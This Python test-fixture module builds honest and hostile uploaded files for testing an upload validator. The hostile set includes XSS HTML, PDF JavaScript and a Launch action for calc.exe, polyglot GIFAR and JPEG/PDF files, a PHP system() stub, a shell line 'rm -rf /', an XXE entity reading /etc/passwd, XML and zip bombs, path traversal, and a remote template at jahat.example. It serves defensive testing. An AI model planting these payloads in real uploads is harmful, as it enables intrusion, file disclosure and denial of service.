"""Files that people send as bukti: honest ones of each kind, and hostile ones in disguise."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.alat.bukti import buat_png, susun_png

HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
JENIS = "http://schemas.openxmlformats.org/package/2006/content-types"
HUBUNGAN = "http://schemas.openxmlformats.org/package/2006/relationships"
KANTOR = "application/vnd.openxmlformats-officedocument"
TIPE_XLSX = f"{KANTOR}.spreadsheetml.sheet.main+xml"
TIPE_DOCX = f"{KANTOR}.wordprocessingml.document.main+xml"


# --- honest ones --------------------------------------------------------------------------------


def buat_pdf(tambahan: bytes = b"", *, kepala: bytes = b"%PDF-1.4\n", ekor: bytes = b"") -> bytes:
    """One blank page; ``tambahan`` stands among its objects."""
    objek = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    )
    return (
        kepala
        + b"%\xe2\xe3\xcf\xd3\n"
        + objek
        + tambahan
        + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
        + ekor
    )


def buat_jpeg(*bagian: bytes, ekor: bytes = b"", progresif: bool = False) -> bytes:
    """A small picture; ``bagian`` are segments put in right behind its beginning."""
    from PIL import Image

    wadah = io.BytesIO()
    Image.new("RGB", (24, 16), (200, 60, 40)).save(wadah, "JPEG", progressive=progresif)
    isi = wadah.getvalue()
    return isi[:2] + b"".join(bagian) + isi[2:] + ekor


def susun_bagian_jpeg(tanda: int, isi: bytes) -> bytes:
    return bytes([0xFF, tanda]) + struct.pack(">H", len(isi) + 2) + isi


def buat_zip(isi: Mapping[str, bytes | str], *, padat: bool = True) -> bytes:
    wadah = io.BytesIO()
    cara = zipfile.ZIP_DEFLATED if padat else zipfile.ZIP_STORED
    with zipfile.ZipFile(wadah, "w", cara) as arsip:
        for nama, data in isi.items():
            arsip.writestr(zipfile.ZipInfo(nama, (2026, 1, 1, 0, 0, 0)), data, cara)
    return wadah.getvalue()


def susun_kantoran(utama: str, tipe: str, **lain: bytes | str) -> dict[str, bytes | str]:
    """The parts of a small package; keys of ``lain`` have "__" for "/" and "_dot_" for "."."""
    jenis = f'<Types xmlns="{JENIS}"><Override PartName="/{utama}" ContentType="{tipe}"/></Types>'
    tambahan = {nama.replace("__", "/").replace("_dot_", "."): isi for nama, isi in lain.items()}
    return {"[Content_Types].xml": jenis, utama: "<isi/>", **tambahan}


def buat_xlsx(**lain: bytes | str) -> bytes:
    return buat_zip(susun_kantoran("xl/workbook.xml", TIPE_XLSX, **lain))


def buat_docx(**lain: bytes | str) -> bytes:
    return buat_zip(susun_kantoran("word/document.xml", TIPE_DOCX, **lain))


def susun_hubungan(macam: str, tujuan: str = "https://jahat.example/a.dotm") -> str:
    tipe = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{macam}"
    return (
        f'<Relationships xmlns="{HUBUNGAN}"><Relationship Id="r1" Type="{tipe}" '
        f'Target="{tujuan}" TargetMode="External"/></Relationships>'
    )


BAIK: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf": ("pdf", buat_pdf),
    "pdf dengan spasi di akhir": ("pdf", lambda: buat_pdf(ekor=b"\r\n\x00\x00")),
    "jpeg": ("jpg", buat_jpeg),
    "jpeg progresif": ("jpg", lambda: buat_jpeg(progresif=True)),
    "jpeg dengan keterangan": ("jpg", lambda: buat_jpeg(susun_bagian_jpeg(0xFE, b"Agenda 2026"))),
    "jpeg dengan gambar kedua": ("jpg", lambda: buat_jpeg(ekor=buat_jpeg())),
    "png": ("png", buat_png),
    "xlsx": ("xlsx", buat_xlsx),
    "xlsx bertautan": (
        "xlsx",
        lambda: buat_xlsx(xl___rels__sheet_dot_rels=susun_hubungan("hyperlink")),
    ),
    "docx": ("docx", buat_docx),
}


# --- hostile ones -------------------------------------------------------------------------------


def _png_kepala(lebar: int, tinggi: int) -> bytes:
    kepala = struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0)
    return susun_png([(b"IHDR", kepala), (b"IDAT", zlib.compress(b"")), (b"IEND", b"")])


def _png_teks(isi: bytes) -> bytes:
    utuh = buat_png()
    return utuh[:33] + susun_png([(b"tEXt", b"Comment\0" + isi)])[8:] + utuh[33:]


def _jpeg_luas() -> bytes:
    """A picture that says it is 65,535 × 65,535."""
    isi = buat_jpeg()
    letak = isi.index(b"\xff\xc0")
    return isi[: letak + 5] + b"\xff\xff\xff\xff" + isi[letak + 9 :]


def _pdf_aliran(isi: bytes) -> bytes:
    return buat_pdf(
        b"4 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n"
        + zlib.compress(isi)
        + b"\nendstream endobj\n"
    )


def _pdf_memuat_arsip() -> bytes:
    """The archive ends in a comment that holds the end of the document."""
    arsip = buat_zip({"a.class": b"\xca\xfe\xba\xbe"})
    ekor = b"\nstartxref\n9\n%%EOF\n"
    return b"%PDF-1.4\n" + arsip[:-2] + struct.pack("<H", len(ekor)) + ekor


def _sandi(isi: bytes) -> bytes:
    """Mark every entry as encrypted."""
    for tanda, letak in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        awal = isi.find(tanda)
        while awal >= 0:
            isi = isi[: awal + letak] + b"\x01" + isi[awal + letak + 1 :]
            awal = isi.find(tanda, awal + 4)
    return isi


def _dua_nama() -> bytes:
    isi = susun_kantoran("xl/workbook.xml", TIPE_XLSX)
    return buat_zip({**isi, "XL/workbook.xml": "<lain/>"})


def _xlsx_tipe(teks: str) -> bytes:
    return buat_zip({"[Content_Types].xml": teks, "xl/workbook.xml": "<isi/>"})


BOM_XML = '<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><t>&b;&b;</t>'
LUAR_XML = '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>'

JAHAT: dict[str, Callable[[], bytes]] = {
    "kosong": lambda: b"",
    "halaman web": lambda: HTML,
    "halaman web dengan BOM": lambda: b"\xef\xbb\xbf" + HTML,
    "svg berskrip": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    "gif": lambda: b"GIF89a" + b"\0" * 40,
    "gifar": lambda: b"GIF89a" + b"\0" * 40 + buat_zip({"a.class": b"x"}),
    "arsip biasa": lambda: buat_zip({"a.txt": "a"}),
    "jar": lambda: buat_zip({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe"}),
    "program windows": lambda: b"MZ\x90\x00" + b"\0" * 100,
    "program linux": lambda: b"\x7fELF" + b"\0" * 100,
    "naskah shell": lambda: b"#!/bin/sh\nrm -rf /\n",
    "office lama": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 40,
    "webp": lambda: b"RIFF\x10\0\0\0WEBPVP8 ",
    "pdf di tengah": lambda: b"x" * 40 + buat_pdf(),
    "pdf tanpa akhir": lambda: buat_pdf()[:-8],
    "pdf lalu halaman web": lambda: buat_pdf(ekor=HTML),
    "pdf berkepala halaman web": lambda: buat_pdf(b"%" + HTML + b"\n"),
    "pdf berskrip": lambda: buat_pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
    "pdf berskrip bersandi nama": lambda: buat_pdf(b"4 0 obj<</S/J#61vaScript>>endobj\n"),
    "pdf berskrip dalam aliran": lambda: _pdf_aliran(b"5 0 <</S/JavaScript/JS(1)>>"),
    "pdf menjalankan program": lambda: buat_pdf(b"4 0 obj<</S/Launch/F(calc.exe)>>endobj\n"),
    "pdf bersisipan": lambda: buat_pdf(b"4 0 obj<</Type/EmbeddedFile>>endobj\n"),
    "pdf lalu arsip": lambda: buat_pdf(ekor=buat_zip({"A.class": b"x"})),
    "pdf di dalam arsip": _pdf_memuat_arsip,
    "pdf aliran bom": lambda: _pdf_aliran(b"\0" * 20_000_000) * 2,
    "jpeg lalu arsip": lambda: buat_jpeg(ekor=buat_zip({"A.class": b"x"})),
    "jpeg lalu halaman web": lambda: buat_jpeg(ekor=HTML),
    "jpeg lalu pdf": lambda: buat_jpeg(ekor=buat_pdf()),
    "jpeg lalu program": lambda: buat_jpeg(ekor=b"\x7fELF" + b"\0" * 60),
    "jpeg lalu rar": lambda: buat_jpeg(ekor=b"Rar!\x1a\x07\x01\x00"),
    "jpeg berketerangan skrip": lambda: buat_jpeg(susun_bagian_jpeg(0xFE, HTML)),
    "jpeg berketerangan php": lambda: buat_jpeg(susun_bagian_jpeg(0xE1, b"<?php system(1);?>")),
    "jpeg hanya kepala": lambda: b"\xff\xd8\xff\xe0",
    "jpeg terpotong": lambda: buat_jpeg()[:-30],
    "jpeg terlalu luas": _jpeg_luas,
    "jpeg bagian tanpa akhir": lambda: b"\xff\xd8" + susun_bagian_jpeg(0xE0, b"a") * 9000,
    "png terpotong": lambda: buat_png()[:-6],
    "png salah jumlah": lambda: buat_png()[:-1] + b"\0",
    "png terlalu luas": lambda: _png_kepala(60_000, 60_000),
    "png tanpa ukuran": lambda: _png_kepala(0, 10),
    "png berketerangan skrip": lambda: _png_teks(HTML),
    "png lalu arsip": lambda: buat_png() + buat_zip({"A.class": b"x"}),
    "png lalu halaman web": lambda: buat_png() + HTML,
    "xlsx bermakro": lambda: buat_xlsx(xl__vbaProject_dot_bin=b"x"),
    "xlsm": lambda: buat_zip(
        susun_kantoran("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ),
    "xlsx lembar makro": lambda: buat_xlsx(xl__macrosheets__sheet1_dot_xml="<a/>"),
    "xlsx berobjek": lambda: buat_xlsx(xl__embeddings__oleObject1_dot_bin=b"x"),
    "docx mengambil templat": lambda: buat_docx(
        word___rels__settings_dot_xml_dot_rels=susun_hubungan("attachedTemplate")
    ),
    "docx mengambil objek": lambda: buat_docx(
        word___rels__document_dot_xml_dot_rels=susun_hubungan("oleObject", "mhtml:https://a!x")
    ),
    "docx bom xml": lambda: buat_docx(_rels___dot_rels=BOM_XML),
    "docx membaca berkas": lambda: buat_docx(_rels___dot_rels=LUAR_XML),
    "xlsx tipe bom": lambda: _xlsx_tipe(BOM_XML),
    "xlsx tipe besar": lambda: _xlsx_tipe(f"<Types>{' ' * 3_000_000}</Types>"),
    "xlsx memuai": lambda: buat_xlsx(xl__worksheets__sheet1_dot_xml=b"\0" * 120_000_000),
    "xlsx banyak butir": lambda: buat_xlsx(**{f"a{n}": "" for n in range(2_100)}),
    "xlsx bersandi": lambda: _sandi(buat_xlsx()),
    "xlsx naik folder": lambda: buat_xlsx(**{"..__..__etc": "x"}),
    "xlsx nama ganda": _dua_nama,
    "xlsx lalu halaman web": lambda: buat_xlsx() + HTML,
    "halaman web lalu xlsx": lambda: HTML + buat_xlsx(),
    "xlsx tanpa isi utama": lambda: buat_zip({"[Content_Types].xml": "<Types/>", "a": "b"}),
    "xlsx tanpa tipe": lambda: buat_zip({"xl/workbook.xml": "<a/>"}),
    "xlsx terpotong": lambda: buat_xlsx()[:-9],
}
# A handful for every run; the gate asks all of them.
JAHAT_SINGKAT = (
    *("halaman web", "svg berskrip", "gifar", "pdf lalu halaman web", "pdf berskrip dalam aliran"),
    *("pdf di dalam arsip", "jpeg lalu arsip", "jpeg terlalu luas", "png lalu halaman web"),
    *("xlsx bermakro", "docx mengambil templat", "docx bom xml", "xlsx memuai"),
)
